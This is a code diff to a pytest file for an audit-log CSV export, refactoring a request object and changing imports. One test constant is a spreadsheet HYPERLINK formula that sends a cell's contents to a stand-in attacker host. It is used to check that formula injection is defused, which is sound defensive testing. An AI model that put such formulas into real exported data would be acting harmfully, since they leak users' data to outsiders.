@@ -10,9 +10,9 @@ from typing import Any
 
 import pytest
 
-from sandbox.call import Call
 from sandbox.resources.audit_log import CSV_COLUMNS, defused, export_audit_log_csv
-from tests.conftest import auth
+from sandbox.resources.request import ApiRequest
+from tests.support import auth
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 
@@ -111,8 +111,8 @@ def test_defused_prefixes_only_formula_triggers(cell, shown):
 
 def test_export_streams_row_by_row(keys, sandbox):
     key = next(k for k in sandbox.world.keys if k["organization_id"] == keys["org_id"])
-    call = Call(None, sandbox, {}, {}, None, key, "corr_test", "req_test")  # type: ignore[arg-type]
-    reply = export_audit_log_csv(call)
+    request = ApiRequest(None, sandbox, None, {}, {}, None, key, "", "corr_test")  # type: ignore[arg-type]
+    reply = export_audit_log_csv(request)
     assert isinstance(reply.body, Iterator) and reply.mimetype == "text/csv"
     assert next(reply.body) == ",".join(CSV_COLUMNS) + "\r\n"
     assert next(reply.body).split(",")[0] == events(sandbox, keys["org_id"])[0]["id"]
